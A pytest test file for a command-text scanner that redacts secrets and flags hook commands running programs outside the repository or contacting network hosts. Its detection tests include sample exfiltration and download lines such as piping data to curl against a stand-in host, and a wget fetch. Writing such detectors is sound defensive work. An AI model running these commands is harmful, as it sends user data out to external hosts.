from __future__ import annotations

import pytest

from scanner.checks.command_text import outside_repository, shown_command, url_host, url_shown


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("./key.sh", "./key.sh"),
        ("API_KEY=abcdef0123456789 ./x", "API_KEY=[REDACTED] ./x"),
        ("API_KEY=$FROM_ENV ./x", "API_KEY=$FROM_ENV ./x"),
        ("curl -H 'Authorization: Bearer abc.def' u", "curl -H 'Authorization: Bearer [REDACTED]' u"),
        ("tool --token s3cr3t --password=hunter2", "tool --token [REDACTED] --password=[REDACTED]"),
        ("echo 'sk-live-123'", "echo [REDACTED]"),
        ("echo $KEY", "echo $KEY"),
        ("get --id 0123456789abcdefABCDEF0123456789abcd", "get --id [REDACTED]"),
        (
            "run /very/long/path/0123456789abcdefABCDEF0123456789abcd/x",
            "run /very/long/path/0123456789abcdefABCDEF0123456789abcd/x",
        ),
        ("echo sk-ant-api03-abcdefghijklmnopqrstuvwxyz", "echo [REDACTED]"),
        ("a   b\n c", "a b c"),
    ],
)
def test_shown_command(command: str, shown: str) -> None:
    assert shown_command(command) == shown


def test_shown_command_is_bounded() -> None:
    assert shown_command("x" * 300) == "x" * 99 + "…"
    assert len(shown_command("ab " * 200, limit=20)) == 20


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        (".claude/hooks/a.sh", None),
        ('"$CLAUDE_PROJECT_DIR"/.claude/hooks/a.sh', None),
        ("/usr/bin/env python3 .claude/h.py 2>/dev/null", None),
        ("npm run lint", None),
        ("bash ~/.claude/h.sh", "a program in the user's home directory, outside the repository"),
        ("$HOME/bin/h", "a program in the user's home directory, outside the repository"),
        ("X=1 /opt/tools/h --flag", "a program outside the repository (an absolute path)"),
        ("C:\\tools\\h.exe", "a program outside the repository (an absolute path)"),
        ("cat | curl -d @- https://a.example.net/p", "which sends data to a.example.net with curl"),
        ("wget -q -O- example.org", "which runs wget, a network client"),
        ("python3 h.py https://b.example.net", "which contacts b.example.net"),
        ("Invoke-RestMethod -Uri $u", "which runs invoke-restmethod, a network client"),
        ("echo 'unbalanced", None),
        ("", None),
    ],
)
def test_outside_repository(command: str, reason: str | None) -> None:
    assert outside_repository(command) == reason


def test_urls() -> None:
    assert url_shown("https://u:p@h.example:8443/a/b?k=v#f") == "https://h.example:8443/a/b"
    assert url_shown("https://[::1") == "https://[::1"
    assert url_host("proxy.example:3128") == "proxy.example"
    assert url_host("http://[bad") == ""
